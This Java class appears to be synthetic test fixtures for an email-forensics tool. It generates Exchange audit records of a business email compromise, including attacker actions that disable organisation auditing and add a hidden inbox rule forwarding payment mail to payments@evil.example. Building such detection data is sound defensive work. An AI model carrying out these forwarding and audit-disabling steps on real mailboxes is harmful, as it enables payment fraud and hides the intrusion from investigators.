package dev.mailtrail.investigate.importer.synthetic;

import dev.mailtrail.core.event.ItemRef;
import dev.mailtrail.core.event.NameValue;
import dev.mailtrail.core.record.AuditRecord;
import dev.mailtrail.core.record.FolderItems;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

/**
 * Small Business Email Compromise cases whose scope is known, as the records Exchange would keep: two days of the
 * victim reading her mail from the office, then an attacker with her password reading payment mail from
 * {@link #ATTACKER_IP} in session {@link #ATTACKER_SESSION}. Each variant adds one thing an investigation must
 * find: a Sync, a throttled record, auditing turned off mid-way, a forwarding rule.
 */
public final class BecCase {
    public static final String VICTIM = "victim@contoso.example";
    public static final String ATTACKER_IP = "203.0.113.5";
    public static final String ATTACKER_SESSION = "a7f3c2d1-0000-4000-8000-00000000bec1";
    public static final String OFFICE_IP = "10.1.2.3";
    public static final Instant COMPROMISE = Instant.parse("2026-03-04T02:10:00Z");
    /** The subjects of the messages the attacker reads, in order. */
    public static final List<String> SUBJECTS_READ =
            List.of("Invoice 4471 overdue", "Updated bank details", "Wire transfer confirmation");

    private static final String ORGANIZATION_ID = "0b7f3e2a-7c1d-4e5f-9a8b-1c2d3e4f5a6b";
    private static final String OWNER_SESSION_PREFIX = "0ffice00-0000-4000-8000-0000000000";
    private static final String ATTACKER_CLIENT = "Client=REST;Client=RESTSystem;;";
    private static final String OFFICE_CLIENT = "Client=OWA;Action=ViaProxy";

    private final List<AuditRecord> records = new ArrayList<>();
    private int sequence;

    private BecCase() {}

    /** The attacker reads three payment messages; nothing else. */
    public static BecCase reading() {
        BecCase bec = new BecCase();
        bec.history();
        bec.attackerReads(COMPROMISE);
        return bec;
    }

    /** The attacker also syncs \Sent Items whole (Exchange's shape) and \Inbox (MailTrail's, with its items). */
    public static BecCase withSync() {
        BecCase bec = reading();
        bec.add(bec.attacker(COMPROMISE.plusSeconds(600), "MailItemsAccessed", 50)
                .operationProperties(accessType("Sync", false))
                .folders(List.of(new FolderItems("LgAAAASent", "\\Sent Items", List.of())))
                .operationCount(1));
        bec.add(bec.attacker(COMPROMISE.plusSeconds(610), "MailItemsAccessed", 50)
                .operationProperties(accessType("Sync", false))
                .folders(List.of(new FolderItems("LgAAAAInbox", "\\Inbox", List.of())))
                .syncedItems(List.of(
                        new ItemRef("<s1@contoso.example>", null, 5_000L, "Board minutes"),
                        new ItemRef("<s2@contoso.example>", null, 6_000L, "Project Falcon budget"),
                        new ItemRef("<s3@contoso.example>", null, 7_000L, "Contract renewal")))
                .operationCount(1));
        return bec;
    }

    /** The attacker's reading crosses Exchange's 1,000 records in 24 hours: the next day of binds is unrecorded. */
    public static BecCase withThrottling() {
        BecCase bec = reading();
        bec.add(bec.attacker(COMPROMISE.plusSeconds(900), "MailItemsAccessed", 50)
                .operationProperties(accessType("Bind", true))
                .folders(List.of(new FolderItems(
                        "LgAAAAInbox", "\\Inbox", List.of(new ItemRef("<t1@contoso.example>", null, 3_000L, null)))))
                .operationCount(1));
        return bec;
    }

    /**
     * The attacker, with an admin account's stolen token, turns auditing off for the organisation an hour in;
     * an administrator turns it back on six hours later.
     */
    public static BecCase withAuditingTurnedOff() {
        BecCase bec = reading();
        bec.add(bec.cmdlet(
                COMPROMISE.plus(Duration.ofHours(1)),
                "Set-OrganizationConfig",
                "admin@contoso.example",
                ATTACKER_IP + ":50123",
                new NameValue("AuditDisabled", "True")));
        bec.add(bec.cmdlet(
                COMPROMISE.plus(Duration.ofHours(7)),
                "Set-OrganizationConfig",
                "admin@contoso.example",
                OFFICE_IP,
                new NameValue("AuditDisabled", "False")));
        bec.attackerReads(COMPROMISE.plus(Duration.ofHours(8)));
        return bec;
    }

    /** The attacker adds the BEC classic: forward payment mail out and stop there. */
    public static BecCase withForwardingRule() {
        BecCase bec = reading();
        bec.add(bec.cmdlet(
                COMPROMISE.plusSeconds(1_200),
                "New-InboxRule",
                VICTIM,
                ATTACKER_IP + ":50999",
                new NameValue("Identity", VICTIM),
                new NameValue("Name", ".."),
                new NameValue("ForwardTo", "payments@evil.example"),
                new NameValue("SubjectOrBodyContainsWords", "invoice;payment;wire"),
                new NameValue("StopProcessingRules", "True")));
        return bec;
    }

    public List<AuditRecord> records() {
        return List.copyOf(records);
    }

    /** Three days of the victim reading mail at the office, 08:00 to 17:00. */
    private void history() {
        Instant day = COMPROMISE.minus(Duration.ofDays(3)).truncatedTo(java.time.temporal.ChronoUnit.DAYS);
        for (int d = 0; d < 3; d++) {
            for (int hour = 8; hour < 17; hour++) {
                Instant time = day.plus(Duration.ofDays(d)).plus(Duration.ofHours(hour));
                String message = "<owner-" + d + "-" + hour + "@contoso.example>";
                add(mailbox(
                                time,
                                "MailItemsAccessed",
                                50,
                                OWNER_SESSION_PREFIX + "%02d".formatted(d),
                                OFFICE_IP,
                                OFFICE_CLIENT)
                        .operationProperties(accessType("Bind", false))
                        .folders(List.of(new FolderItems(
                                "LgAAAAInbox",
                                "\\Inbox",
                                List.of(new ItemRef(message, null, 4_000L, "Lunch on " + (d + 1) + "?")))))
                        .operationCount(1));
            }
        }
    }

    private void attackerReads(Instant start) {
        List<ItemRef> items = new ArrayList<>();
        for (int i = 0; i < SUBJECTS_READ.size(); i++) {
            items.add(new ItemRef("<pay-" + i + "@contoso.example>", null, 10_000L + i, SUBJECTS_READ.get(i)));
        }
        add(attacker(start, "MailItemsAccessed", 50)
                .operationProperties(accessType("Bind", false))
                .folders(List.of(new FolderItems("LgAAAAFinance", "\\Inbox\\Finance", items)))
                .operationCount(items.size()));
    }

    private AuditRecord.Builder attacker(Instant time, String operation, int recordType) {
        return mailbox(time, operation, recordType, ATTACKER_SESSION, ATTACKER_IP, ATTACKER_CLIENT)
                .clientIp(ATTACKER_IP + ":" + (40_000 + sequence));
    }

    private AuditRecord.Builder mailbox(
            Instant time, String operation, int recordType, String session, String ip, String client) {
        return AuditRecord.builder()
                .creationTime(time)
                .id(nextId())
                .operation(operation)
                .organizationId(ORGANIZATION_ID)
                .recordType(recordType)
                .resultStatus("Succeeded")
                .userKey("10032001A2B3C4D5")
                .userType(0)
                .version(1)
                .workload("Exchange")
                .clientIp(ip)
                .userId(VICTIM)
                .clientIpAddress(ip)
                .clientInfoString(client)
                .externalAccess(false)
                .internalLogonType(0)
                .logonType(0)
                .mailboxGuid("5f1c0e2a-0000-4000-8000-00000000bec0")
                .mailboxOwnerUpn(VICTIM)
                .organizationName("contoso.onmicrosoft.com")
                .originatingServer("AM6PR04MB1234 (15.20.7452.023)")
                .sessionId(session);
    }

    private AuditRecord cmdlet(Instant time, String operation, String actor, String ip, NameValue... parameters) {
        return AuditRecord.builder()
                .creationTime(time)
                .id(nextId())
                .operation(operation)
                .organizationId(ORGANIZATION_ID)
                .recordType(1)
                .resultStatus("True")
                .userKey(actor)
                .userType(2)
                .version(1)
                .workload("Exchange")
                .clientIp(ip)
                .objectId(operation.endsWith("InboxRule") ? "contoso.onmicrosoft.com/" + VICTIM + "\\.." : null)
                .userId(actor)
                .externalAccess(false)
                .organizationName("contoso.onmicrosoft.com")
                .originatingServer("AM6PR04MB1234 (15.20.7452.023)")
                .parameters(List.of(parameters))
                .build();
    }

    private static List<NameValue> accessType(String type, boolean throttled) {
        return List.of(
                new NameValue("MailAccessType", type), new NameValue("IsThrottled", throttled ? "True" : "False"));
    }

    private void add(AuditRecord.Builder record) {
        add(record.build());
    }

    private void add(AuditRecord record) {
        records.add(record);
    }

    private String nextId() {
        sequence++;
        return new UUID(0x6265630000004000L, 0x8000000000000000L | sequence).toString();
    }
}
